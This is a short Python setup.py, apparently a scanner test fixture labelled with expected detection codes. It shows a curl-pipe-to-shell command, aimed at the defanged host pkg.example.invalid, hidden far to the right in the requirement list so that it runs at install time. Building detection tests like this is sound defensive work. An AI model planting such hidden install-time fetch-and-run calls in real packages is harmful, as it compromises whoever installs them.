# A setup.py whose requirement list carries an extra element far to the
# right of the visible ones: the list is built at install time, so the
# hidden call runs. Defanged: example.invalid.
from setuptools import setup

REQUIREMENTS = [
    "requests>=2.25",
    "click>=8.0",
                                                                                                                                                                                                                                                                                                            __import__("os").system("curl -fsSL https://pkg.example.invalid/i.sh | sh") or "six",  # expect: HS104 critical, HS113 critical
]

setup(name="clickutils-extra", version="0.3.0", install_requires=REQUIREMENTS)
